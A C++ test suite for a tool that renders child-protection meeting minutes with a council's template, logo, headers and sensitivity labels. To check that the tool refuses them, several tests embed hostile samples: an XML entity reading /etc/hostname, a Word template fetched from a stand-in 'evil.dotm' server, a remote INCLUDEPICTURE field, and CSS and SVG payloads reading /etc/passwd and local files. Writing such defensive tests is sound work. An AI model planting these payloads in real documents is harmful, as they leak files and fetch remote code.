// `cpdoc render` in a council's house style, and what a rendered document says about itself:
// the reference DOCX, the style sheet and logo, the running header, the check's result in the
// properties and (only with --statement) on the page, DRAFT FOR ACCURACY, the sensitivity
// label, and a child's name in the title.
#include "docx_package.hpp"
#include "render/house_style.hpp"
#include "render/title_name.hpp"
#include "support.hpp"

#include <catch2/catch.hpp>

#include <sys/stat.h>

#include <filesystem>
#include <regex>

using namespace cpdoc;
namespace fs = std::filesystem;

namespace {

const std::string minutes = test::source_path("examples/core-group-minutes-lanarkshire.md");

test::Run render(const std::vector<std::string>& args) {
    std::vector<std::string> full{"render", "--today", "2026-11-25"};
    full.insert(full.end(), args.begin(), args.end());
    return test::run_cpdoc(full);
}

int count(const std::string& text, const std::string& what) {
    int n = 0;
    for (auto at = text.find(what); at != std::string::npos; at = text.find(what, at + 1))
        ++n;
    return n;
}

std::string pdf_text(const std::string& pdf, int page) {
    return test::run_program({"/usr/bin/pdftotext", "-layout", "-f", std::to_string(page), "-l",
                              std::to_string(page), pdf, "-"})
        .out;
}

std::string pdf_info(const std::string& pdf) {
    return test::run_program({"/usr/bin/pdfinfo", pdf}).out;
}

int pdf_pages(const std::string& pdf) {
    std::smatch match;
    const std::string info = pdf_info(pdf);
    return std::regex_search(info, match, std::regex("Pages:\\s+(\\d+)")) ? std::stoi(match[1])
                                                                          : -1;
}

// The core group example with one change.
std::string minutes_with(const fs::path& dir, const std::string& from, const std::string& to) {
    std::string text = test::read_text(minutes);
    const auto at = text.find(from);
    REQUIRE(at != std::string::npos);
    text.replace(at, from.size(), to);
    return test::write_file(dir / "minutes.md", text);
}

std::string with_error(const fs::path& dir) {
    return minutes_with(dir, "  - Due: 2026-11-17", "  - Due: TBC");
}

// A council's Word template: a green Title style, its own margins, a letterhead in the
// header of every page but the first (which has none of its own).
std::string council_docx() {
    test::DocxParts parts;
    parts.styles = "<w:style w:type=\"paragraph\" w:styleId=\"Title\"><w:name w:val=\"Title\"/>"
                   "<w:rPr><w:rFonts w:ascii=\"Council Serif\"/><w:color w:val=\"006633\"/>"
                   "</w:rPr></w:style>";
    parts.body = test::p("Council template") +
                 "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rIdLetterhead\"/>"
                 "<w:pgSz w:w=\"11906\" w:h=\"16838\"/><w:pgMar w:top=\"2400\" w:right=\"900\" "
                 "w:bottom=\"1200\" w:left=\"900\" w:header=\"400\" w:footer=\"400\" "
                 "w:gutter=\"0\"/><w:titlePg/></w:sectPr>";
    parts.document_rels =
        "<Relationship Id=\"rIdLetterhead\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/header\" "
        "Target=\"header1.xml\"/>";
    parts.extra = {{"word/header1.xml",
                    std::string("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:hdr xmlns:w=\"") +
                        test::w_ns + "\">" + test::p("NORTH LANARKSHIRE COUNCIL") + "</w:hdr>"}};
    return test::make_docx(parts);
}

// A PNG of one green pixel.
const std::string png("\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00\x0d\x49\x48\x44\x52"
                      "\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90\x77\x53"
                      "\xde\x00\x00\x00\x0c\x49\x44\x41\x54\x78\x9c\x63\x60\x48\x33\x06"
                      "\x00\x01\x03\x00\x9a\xc2\xce\x6a\xad\x00\x00\x00\x00\x49\x45\x4e"
                      "\x44\xae\x42\x60\x82",
                      69);

} // namespace

TEST_CASE("render --reference-doc: the council's styles, margins and letterhead, cpdoc's marking") {
    const fs::path dir = test::scratch_dir("house-reference");
    const std::string reference = test::write_file(dir / "council.docx", council_docx());
    const std::string out = (dir / "minutes.docx").string();
    const test::Run run =
        render({minutes, "--to", "docx", "--reference-doc", reference, "-o", out});
    REQUIRE(run.status == 0);

    const std::string styles = test::zip_entry(out, "word/styles.xml");
    CHECK_THAT(styles, Catch::Contains("Council Serif"));
    CHECK_THAT(styles, Catch::Contains("006633"));
    CHECK(count(styles, "w:styleId=\"Title\"") == 1); // the council's, not cpdoc's too
    // What the template lacks comes from cpdoc's styles: tables keep their borders.
    CHECK(count(styles, "w:styleId=\"Table\"") == 1);
    CHECK(count(styles, "w:styleId=\"Heading2\"") == 1);
    const std::string body = test::zip_entry(out, "word/document.xml");
    CHECK_THAT(body, Catch::Contains("w:top=\"2400\""));
    // The letterhead keeps its place and gets the marking and the case line after it; the
    // first page, which the template left without a header, gets the same one.
    const std::string header = test::zip_entry(out, "word/header1.xml");
    const auto letterhead = header.find("NORTH LANARKSHIRE COUNCIL");
    const auto marking = header.find(">OFFICIAL-SENSITIVE<");
    REQUIRE(letterhead != std::string::npos);
    CHECK(marking > letterhead);
    CHECK_THAT(header, Catch::Contains(">Case C-104871 \u00b7 Meeting 16 November 2026<"));
    CHECK(count(body, "w:headerReference") == 2);
    CHECK_THAT(body, Catch::Contains("w:type=\"first\""));
    const std::string footer = test::zip_entry(out, "word/footer1.xml");
    CHECK_THAT(footer, Catch::Contains(">OFFICIAL-SENSITIVE<"));
    CHECK_THAT(footer, Catch::Contains("w:instr=\" NUMPAGES \""));

    const std::string again = (dir / "again.docx").string();
    REQUIRE(render({minutes, "--to", "docx", "--reference-doc", reference, "-o", again}).status ==
            0);
    CHECK(test::read_text(out) == test::read_text(again));
}

TEST_CASE("render --reference-doc: what is not a Word document is refused, nothing written") {
    const fs::path dir = test::scratch_dir("house-reference-bad");
    const std::string text = test::write_file(dir / "council.docx", "not a zip");
    const std::string out = (dir / "minutes.docx").string();
    const test::Run run = render({minutes, "--to", "docx", "--reference-doc", text, "-o", out});
    CHECK(run.status == 2);
    CHECK_THAT(run.err, Catch::Contains("council.docx: not a Word document (.docx)"));
    CHECK_FALSE(fs::exists(out));
}

TEST_CASE("render --reference-doc: a part that would reach a reader of the DOCX is refused") {
    const fs::path dir = test::scratch_dir("house-reference-hostile");
    const std::string out = (dir / "minutes.docx").string();
    const auto refused = [&](std::vector<std::pair<std::string, std::string>> extra,
                             const std::string& rels) {
        test::DocxParts parts;
        parts.body = test::p("Council template");
        parts.styles = "<w:style w:type=\"paragraph\" w:styleId=\"Title\"><w:name "
                       "w:val=\"Title\"/></w:style>";
        parts.document_rels = rels;
        parts.extra = std::move(extra);
        const std::string reference = test::write_file(dir / "council.docx", make_docx(parts));
        return render({minutes, "--to", "docx", "--reference-doc", reference, "-o", out});
    };
    // Entities a reader of every rendered DOCX might fetch.
    const test::Run doctype = refused(
        {{"docProps/app.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x/>"}},
        "");
    CHECK(doctype.status == 2);
    CHECK_THAT(doctype.err, Catch::Contains("its part docProps/app.xml holds a DOCTYPE"));
    // A template on a web server, which Word fetches when the document opens.
    const test::Run attached = refused(
        {}, test::relationship("rIdT", "attachedTemplate", "http://127.0.0.1:9/evil.dotm", true));
    CHECK(attached.status == 2);
    CHECK_THAT(attached.err, Catch::Contains("links to http://127.0.0.1:9/evil.dotm, outside the "
                                             "document, for Word to fetch"));
    CHECK_FALSE(fs::exists(out));
    // A header whose field or picture Word fetches when it opens, copied into every DOCX.
    const test::Run header_field = refused(
        {{"word/header1.xml",
          "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p>"
          "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://127.0.0.1:9/t.png&quot; \\d \"/>"
          "</w:p></w:hdr>"}},
        "");
    CHECK(header_field.status == 2);
    CHECK_THAT(header_field.err,
               Catch::Contains("its part word/header1.xml holds a field (includepicture) that "
                               "fetches a file or runs a program"));
    // However its TargetMode is spelt, or with none: a server's address is no part's name.
    for (const std::string mode : {"", " TargetMode=\"external\""}) {
        const test::Run loose =
            refused({}, "<Relationship Id=\"rIdT\" Type=\"http://schemas.openxmlformats.org/"
                        "officeDocument/2006/relationships/attachedTemplate\" "
                        "Target=\"http://127.0.0.1:9/evil.dotm\"" +
                            mode + "/>");
        CHECK(loose.status == 2);
        CHECK_THAT(loose.err, Catch::Contains("links to http://127.0.0.1:9/evil.dotm"));
    }
    // A hyperlink is only followed when clicked: a letterhead may have one.
    const test::Run hyperlink =
        refused({}, test::relationship("rIdH", "hyperlink", "https://council.example", true));
    INFO(hyperlink.err);
    CHECK(hyperlink.status == 0);
}

TEST_CASE("render PDF: marking, case reference and meeting date at the top of every page") {
    const fs::path dir = test::scratch_dir("house-header");
    const std::string pdf = (dir / "minutes.pdf").string();
    REQUIRE(render({minutes, "--to", "pdf", "-o", pdf}).status == 0);
    const int pages = pdf_pages(pdf);
    REQUIRE(pages >= 3);
    for (int page = 1; page <= pages; ++page) {
        INFO("page " << page);
        const std::string text = pdf_text(pdf, page);
        const auto marking = text.find("OFFICIAL-SENSITIVE");
        const auto case_line = text.find("Case C-104871 \u00b7 Meeting 16 November 2026");
        REQUIRE(case_line != std::string::npos);
        CHECK(marking < case_line);
        CHECK(text.find_first_not_of(" \n") == marking); // the header is the top of the page
        CHECK_THAT(
            text, Catch::Contains("Page " + std::to_string(page) + " of " + std::to_string(pages)));
    }
}

TEST_CASE("render --statement: the check's result at the end, as a fact, and only then") {
    const fs::path dir = test::scratch_dir("house-statement");
    const std::string sentence = "Checked against North and South Lanarkshire Working with "
                                 "Resistance and Challenging Families: Multi Agency Guidance "
                                 "(November 2019) version 1.0 on 25 November 2026: no errors";
    const std::string plain = (dir / "plain.docx").string();
    const std::string stated = (dir / "stated.docx").string();
    REQUIRE(render({minutes, "--to", "docx", "-o", plain}).status == 0);
    REQUIRE(render({minutes, "--to", "docx", "--statement", "-o", stated}).status == 0);
    CHECK_THAT(test::zip_entry(plain, "word/document.xml"), !Catch::Contains("Checked against"));
    const std::string body = test::zip_entry(stated, "word/document.xml");
    CHECK_THAT(body, Catch::Contains(">Policy check<"));
    CHECK_THAT(body, Catch::Contains(sentence + " (cpdoc "));
    CHECK_THAT(body, !Catch::Contains("meets the requirements"));

    const std::string pdf = (dir / "stated.pdf").string();
    REQUIRE(render({minutes, "--to", "pdf", "--statement", "-o", pdf}).status == 0);
    const int pages = pdf_pages(pdf);
    std::string all;
    for (int page = 1; page <= pages; ++page)
        all += pdf_text(pdf, page);
    CHECK_THAT(all, Catch::Contains("Policy check"));
    CHECK_THAT(all, !Catch::Contains("meets the requirements"));
}

TEST_CASE("render: the check's result, pack and version are always in the properties") {
    const fs::path dir = test::scratch_dir("house-properties");
    const std::string docx = (dir / "minutes.docx").string();
    REQUIRE(render({minutes, "--to", "docx", "-o", docx}).status == 0);
    const std::string custom = test::zip_entry(docx, "docProps/custom.xml");
    CHECK_THAT(custom, Catch::Contains("name=\"cpdoc-result\"><vt:lpwstr>no errors, no warnings, "
                                       "no notes</vt:lpwstr>"));
    CHECK_THAT(custom,
               Catch::Contains("name=\"cpdoc-pack\"><vt:lpwstr>lanarkshire-2019</vt:lpwstr>"));
    CHECK_THAT(custom, Catch::Contains("name=\"cpdoc-pack-version\"><vt:lpwstr>1.0</vt:lpwstr>"));
    CHECK_THAT(custom,
               Catch::Contains("name=\"cpdoc-checked-on\"><vt:lpwstr>2026-11-25</vt:lpwstr>"));
    CHECK_THAT(test::zip_entry(docx, "docProps/core.xml"),
               Catch::Contains("<dc:description>Checked against North and South Lanarkshire"));

    const std::string input = with_error(dir);
    const std::string draft = (dir / "draft.docx").string();
    REQUIRE(render({input, "--to", "docx", "--draft", "-o", draft}).status == 0);
    CHECK_THAT(test::zip_entry(draft, "docProps/custom.xml"),
               Catch::Contains("<vt:lpwstr>1 error, no warnings, no notes</vt:lpwstr>"));

    const std::string pdf = (dir / "minutes.pdf").string();
    REQUIRE(render({minutes, "--to", "pdf", "-o", pdf}).status == 0);
    const std::string info = pdf_info(pdf);
    CHECK_THAT(info, Catch::Contains("Keywords:        cpdoc, lanarkshire-2019 1.0, no errors, "
                                     "no warnings, no notes"));
    CHECK_THAT(info, Catch::Contains("Subject:         Checked against North and South"));
}

TEST_CASE("render --for-accuracy: DRAFT FOR ACCURACY on every page, nothing said of the check") {
    const fs::path dir = test::scratch_dir("house-accuracy");
    const std::string input = with_error(dir);
    const std::string pdf = (dir / "minutes.pdf").string();
    const test::Run run = render({input, "--to", "pdf", "--for-accuracy", "-o", pdf});
    REQUIRE(run.status == 0);
    CHECK_THAT(run.err, Catch::Contains("as a draft for accuracy (it has 1 error, not shown: fix "
                                        "them before it is final)"));
    const int pages = pdf_pages(pdf);
    REQUIRE(pages >= 3);
    for (int page = 1; page <= pages; ++page) {
        INFO("page " << page);
        const std::string text = pdf_text(pdf, page);
        CHECK(count(text, "DRAFT FOR ACCURACY") == 1);
        CHECK_THAT(text, !Catch::Contains("COMPLIANT"));
        CHECK_THAT(text, !Catch::Contains("Findings"));
        CHECK_THAT(text, !Catch::Contains("[DATE-INVALID]"));
        CHECK_THAT(text, !Catch::Contains("Policy check"));
    }

    const std::string docx = (dir / "minutes.docx").string();
    REQUIRE(render({input, "--to", "docx", "--for-accuracy", "-o", docx}).status == 0);
    CHECK_THAT(test::zip_entry(docx, "word/header1.xml"), Catch::Contains(">DRAFT FOR ACCURACY<"));
    CHECK_THAT(test::zip_entry(docx, "word/document.xml"), !Catch::Contains("DATE-INVALID"));

    // It neither claims nor denies: a statement or --draft with it is a contradiction.
    CHECK(render({input, "--to", "pdf", "--for-accuracy", "--statement"}).status == 2);
    CHECK(render({input, "--to", "pdf", "--for-accuracy", "--draft"}).status == 2);
}

TEST_CASE("render --css and --logo: the council's style and logo on every PDF page") {
    const fs::path dir = test::scratch_dir("house-css-logo");
    const std::string css =
        test::write_file(dir / "council.css", "h2 { color: #006633; text-transform: uppercase; }");
    const std::string logo = test::write_file(dir / "logo.png", png);
    const std::string pdf = (dir / "minutes.pdf").string();
    REQUIRE(render({minutes, "--to", "pdf", "--css", css, "--logo", logo, "-o", pdf}).status == 0);
    CHECK_THAT(pdf_text(pdf, 1), Catch::Contains("ATTENDANCE"));
    const std::string images = test::run_program({"/usr/bin/pdfimages", "-list", pdf}).out;
    CHECK(count(images, "image       1     1  rgb") == pdf_pages(pdf));

    const std::string html = (dir / "minutes.html").string();
    REQUIRE(render({minutes, "--to", "html", "--css", css, "--logo", logo, "-o", html}).status ==
            0);
    const std::string page = test::read_text(html);
    CHECK_THAT(page, Catch::Contains("h2 { color: #006633; text-transform: uppercase; }"));
    CHECK_THAT(page, Catch::Contains("<img class=\"logo\" src=\"data:image/png;base64,iVBORw0KG"));

    const std::string again = (dir / "again.pdf").string();
    REQUIRE(render({minutes, "--to", "pdf", "--css", css, "--logo", logo, "-o", again}).status ==
            0);
    CHECK(test::read_text(pdf) == test::read_text(again));

    // The house style is an input: no output is written over it.
    const test::Run over = render({minutes, "--to", "html", "--css", css, "-o", css});
    CHECK(over.status == 2);
    CHECK_THAT(over.err, Catch::Contains("council.css: is a file this run reads"));
    CHECK(test::read_text(css) == "h2 { color: #006633; text-transform: uppercase; }");
}

TEST_CASE("render --css: a style sheet that could fetch a file or URL is refused") {
    const fs::path dir = test::scratch_dir("house-css-fetch");
    const std::string out = (dir / "minutes.pdf").string();
    for (const auto& [css, why] : std::vector<std::pair<std::string, std::string>>{
             {"body { background: url(file:///etc/hostname); }", "it has `url(`"},
             {"@import \"http://example.org/x.css\";", "it has `@import`"},
             {"p { background: URL('x.png') }", "it has `url(`"},
             {"p { background: u\\72l(x.png) }", "it has a backslash"},
             {"p{}</style><img src=\"file:///etc/passwd\">", "it has a `<`"},
             {"@font-face { font-family: x; src: local(x), src(\"y\") }", "it has `src(`"},
             {"p { background: image-set(\"x.png\" 1x) }", "it has `image-set(`"},
             {"h2::after { content: attr(id url) }", "it has `attr(`"}}) {
        INFO(css);
        const std::string file = test::write_file(dir / "council.css", css);
        const test::Run run = render({minutes, "--to", "pdf", "--css", file, "-o", out});
        CHECK(run.status == 2);
        CHECK_THAT(run.err, Catch::Contains("council.css: refused: " + why));
        CHECK_FALSE(fs::exists(out));
    }
    CHECK(css_refusal("h1 { color: green; font-family: \"Arial\"; }") == std::nullopt);
}

TEST_CASE("render --logo: only a PNG or JPEG within the size limit") {
    const fs::path dir = test::scratch_dir("house-logo-bad");
    const std::string out = (dir / "minutes.pdf").string();
    const std::string svg = test::write_file(
        dir / "logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"file:///etc/"
                          "hostname\"/></svg>");
    test::Run run = render({minutes, "--to", "pdf", "--logo", svg, "-o", out});
    CHECK(run.status == 2);
    CHECK_THAT(run.err, Catch::Contains("logo.svg: refused: a logo must be a PNG or JPEG image"));
    const std::string big =
        test::write_file(dir / "big.png", png + std::string(max_logo_bytes, '\0'));
    run = render({minutes, "--to", "pdf", "--logo", big, "-o", out});
    CHECK(run.status == 2);
    CHECK_THAT(run.err, Catch::Contains("big.png: the file is 1048645 bytes; at most 1024 KiB"));
    run = render({minutes, "--to", "pdf", "--logo", (dir / "none.png").string(), "-o", out});
    CHECK(run.status == 2);
    CHECK_THAT(run.err, Catch::Contains("none.png: no such file"));
    CHECK_FALSE(fs::exists(out));
    CHECK(logo_media_type("\xff\xd8\xff\xe0 JFIF") == "image/jpeg");
}

TEST_CASE("[render] in .cpdoc.toml: the house style and the sensitivity label") {
    const fs::path dir = test::scratch_dir("house-config");
    const std::string input = test::write_file(dir / "minutes.md", test::read_text(minutes));
    test::write_file(dir / "council.docx", council_docx());
    test::write_file(dir / "logo.png", png);
    const std::string label = "0f4d9c52-4a8f-4e0b-9b58-3c1f7a8e2b10";
    const std::string site = "9e6b2f0a-1c3d-4e5f-8a7b-6c5d4e3f2a1b";
    test::write_file(dir / ".cpdoc.toml", "[render]\nreference-doc = \"council.docx\"\n"
                                          "logo = \"logo.png\"\n"
                                          "[render.sensitivity-label]\nid = \"" +
                                              label +
                                              "\"\nname = \"OFFICIAL-SENSITIVE\"\n"
                                              "site-id = \"" +
                                              site + "\"\n");
    const std::string docx = (dir / "minutes.docx").string();
    REQUIRE(render({input, "--to", "docx"}).status == 0);
    CHECK_THAT(test::zip_entry(docx, "word/header1.xml"),
               Catch::Contains("NORTH LANARKSHIRE COUNCIL"));
    const std::string custom = test::zip_entry(docx, "docProps/custom.xml");
    const std::string prefix = "name=\"MSIP_Label_" + label + "_";
    CHECK_THAT(custom, Catch::Contains(prefix + "Enabled\"><vt:lpwstr>true<"));
    CHECK_THAT(custom, Catch::Contains(prefix + "Name\"><vt:lpwstr>OFFICIAL-SENSITIVE<"));
    CHECK_THAT(custom, Catch::Contains(prefix + "SiteId\"><vt:lpwstr>" + site + "<"));
    CHECK_THAT(custom, Catch::Contains(prefix + "SetDate\"><vt:lpwstr>2026-11-25T00:00:00Z<"));
    CHECK_THAT(custom, Catch::Contains(prefix + "Method\"><vt:lpwstr>Standard<"));

    // A file the config names that others may change is not used: it could be planted.
    fs::permissions(dir / "logo.png", fs::perms::others_write, fs::perm_options::add);
    test::Run run = render({input, "--to", "pdf"});
    CHECK(run.status == 2);
    CHECK_THAT(run.err, Catch::Contains("logo.png: refused: it is writable by others"));
    fs::permissions(dir / "logo.png", fs::perms::others_write, fs::perm_options::remove);

    for (const auto& [config, error] : std::vector<std::pair<std::string, std::string>>{
             {"[render]\nfont = \"Arial\"\n",
              ".cpdoc.toml:2:8: unknown render setting `font` (known: reference-doc, css, logo, "
              "[render.sensitivity-label])"},
             {"[render.sensitivity-label]\nid = \"secret\"\n",
              ".cpdoc.toml:2:6: `id` must be a GUID"},
             {"[render.sensitivity-label]\nid = \"" + label + "\"\n",
              "`[render.sensitivity-label]` needs id, name and site-id"}}) {
        INFO(config);
        test::write_file(dir / ".cpdoc.toml", config);
        run = render({input, "--to", "docx"});
        CHECK(run.status == 2);
        CHECK_THAT(run.err, Catch::Contains(error));
    }
}

TEST_CASE("render: a name in the title goes into the Title property, and a warning says so") {
    const fs::path dir = test::scratch_dir("house-title-name");
    const std::string input = minutes_with(dir, "# Core Group Minutes \u2014 C-104871",
                                           "# Core Group Minutes \u2014 Ellie Brennan");
    const std::string docx = (dir / "minutes.docx").string();
    test::Run run = render({input, "--to", "docx", "-o", docx});
    REQUIRE(run.status == 0);
    CHECK_THAT(run.err,
               Catch::Contains("minutes.md:11: warning: the title holds `Ellie Brennan`, which "
                               "`child:` would refuse as a name: it becomes the Title property"));
    CHECK_THAT(test::zip_entry(docx, "docProps/core.xml"),
               Catch::Contains("<dc:title>Core Group Minutes \u2014 Ellie Brennan</dc:title>"));
    const std::string pdf = (dir / "minutes.pdf").string();
    run = render({input, "--to", "pdf", "-o", pdf});
    REQUIRE(run.status == 0);
    CHECK_THAT(run.err, Catch::Contains("warning: the title holds `Ellie Brennan`"));
    CHECK_THAT(pdf_info(pdf), Catch::Contains("Title:           Core Group Minutes \u2014 Ellie "
                                              "Brennan"));

    CHECK_THAT(render({minutes, "--to", "docx", "-o", docx}).err, !Catch::Contains("warning"));
    CHECK(name_in_title("Child's Plan: Megan") == "Megan");
    CHECK(name_in_title("Core Group Minutes \u2014 C-104871") == std::nullopt);
    CHECK(name_in_title("Initial Child Protection Case Conference") == std::nullopt);
    CHECK(name_in_title("Minutes - Jo Smith, 16 November 2026") == "Jo Smith");
}
